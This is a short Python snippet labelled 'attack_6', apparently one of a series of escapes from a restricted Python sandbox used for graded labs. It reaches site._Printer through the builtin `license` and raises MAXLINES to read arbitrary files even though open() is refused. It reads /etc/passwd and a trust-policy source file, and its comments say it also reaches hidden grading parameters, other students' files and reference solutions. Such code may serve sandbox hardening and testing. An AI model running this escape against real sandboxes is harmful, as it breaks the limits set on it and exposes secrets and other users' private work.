# attack_6: arbitrary file READ (open() is refused). The builtin `license` (kept: it is not in
# REFUSED_BUILTINS) is a site._Printer; its class takes any files/dirs and repr() reads them
# with site's own open(). MAXLINES is a public class attribute: raise it to get the whole file.
# Reads hidden_params.json, other students' files, the reference solutions... Lab: any.
class Printer(type(license)):  # a subclass: site._Printer itself is left alone
    MAXLINES = 10**9


LEAK_passwd = repr(Printer("x", "", ["passwd"], ["/etc"]))
LEAK_policy_source = repr(
    Printer("x", "", ["policy.py"], ["/work/main/zerobook/trust"])
)[:300]
